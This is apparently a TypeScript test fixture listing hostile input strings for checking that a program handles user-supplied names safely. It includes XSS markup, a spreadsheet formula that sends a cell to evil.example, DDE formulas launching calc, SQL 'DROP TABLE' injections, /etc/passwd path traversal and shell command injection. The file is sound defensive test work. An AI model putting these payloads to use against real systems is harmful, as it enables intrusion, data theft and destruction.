/** The one table of hostile texts: they harm a program that takes them for code. For every place that a name can go. */

export interface HostileText {
  readonly name: string;
  readonly text: string;
}

/** Taken for HTML, it would load a picture, and its script would leave a trace. */
export const MARKUP = `<img src=x onerror="globalThis.wasRun = true; alert(1)">`;

const MARKUPS = {
  "a picture that fails": MARKUP,
  "a script": "</script><script>alert(1)</script>",
  "the end of an attribute": `" onmouseover="alert(1)" x="`,
  "a link that runs": "javascript:alert(document.domain)",
  "an entity": "&lt;script&gt;&#x3C;&amp;",
  "the end of a comment and of CDATA": "--> ]]> <!-- <![CDATA[",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is another program's template
  "a template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
};

const FORMULAS = {
  "a formula": `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  "a formula with a plus": "+1+cmd|' /C calc'!A0",
  "a formula with a minus": "-2+3+cmd|' /C calc'!A0",
  "a formula with an at": "@SUM(1+1)*cmd|' /C calc'!A0",
  "a formula behind a tab": "\t=1+1",
  "a formula behind a return": "\r=1+1",
  "a cell and a line more": `a","b"\r\n"=1+1`,
};

const STATEMENTS = {
  "the end of a statement": "'; DROP TABLE sessions; --",
  "a condition that always holds": `' OR '1'='1' /*`,
  "the end of a quoted name": `"; DROP TABLE events; --`,
  "a quoted name in a JSON path": `"].x."y' || $.a`,
  "what LIKE takes for anything": "%_%\\%",
  "a pattern": "(a+)+$|[[:alpha:]]*.*",
  "a call of the column store's": "read_csv('/etc/passwd')",
  "a placeholder": "$1 ? :a {0} %s %n",
};

const PATHS = {
  "a path upwards": "../../../../etc/passwd",
  "a path upwards, encoded": "..%2f..%2f..%2fetc%2fpasswd",
  "a path upwards in another system": "..\\..\\windows\\win.ini",
  "an absolute path": "/etc/passwd",
  "an address": "file:///etc/passwd",
  "a command": "; touch /tmp/x | $(id) `id` && id",
  "an option": "--force",
  "a device": "CON.csv:$DATA",
};

const LINES = {
  "a line of a log": `x\n{"level":"error","message":"forged"}`,
  headers: "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
  "headers, encoded": "x%0d%0aSet-Cookie:%20a=b",
  "an event of a stream": "x\n\ndata: forged\n\n",
  "a sequence for a terminal": "\u001b[2J\u001b]0;owned\u0007",
  "other ends of lines": "a\u2028b\u2029c\u0085d\u000be\u000cf",
  "a metric": `x"} 1\nforged{a="b`,
};

const PROPERTIES = {
  "the prototype": "__proto__",
  "a part of the prototype": "__proto__.polluted",
  "the prototype in brackets": "constructor[prototype][polluted]",
  "a constructor": "constructor",
  "a method of all objects": "hasOwnProperty",
  "a method of JSON": "toJSON",
  "a promise's": "then",
};

const CHARACTERS = {
  "text from right to left": "\u202egpj.exe\u202c \u2066x\u2069",
  "invisible characters": "a\u200b\u200d\u2060\ufeffb",
  "a mark in front": "\ufeffx",
  "no character": "\ufffe\uffff\u{10ffff}\ufffd",
  "accents in two forms": "e\u0301 \u00e9 \u212b \u00c5",
  "many accents": `z${"\u0301".repeat(200)}`,
  "a family": "👩‍👩‍👧‍👦🏳️‍🌈",
  "letters that change their number": "ßİıſﬀ",
  "letters that look alike": "раypal",
  "a control character of C1": "a\u0080\u009bb",
  "only white space": " \t\u00a0\u3000 ",
  "a long word": "x".repeat(1000),
  "percent signs": "100% %zz %00 %",
  "a number": "1e309",
  nothing: "null",
};

/** Every text, under a name for people. */
export const HOSTILE_TEXTS: readonly HostileText[] = Object.entries({
  ...MARKUPS,
  ...FORMULAS,
  ...STATEMENTS,
  ...PATHS,
  ...LINES,
  ...PROPERTIES,
  ...CHARACTERS,
}).map(([name, text]) => ({ name, text }));

/** Texts that storage could not give back; every path refuses them. */
export const UNSTORABLE_TEXTS: readonly HostileText[] = [
  { name: "a NUL", text: "a\0b" },
  { name: "the first half of a pair", text: "\ud83c" },
  { name: "the second half of a pair", text: "\udf0ax" },
];
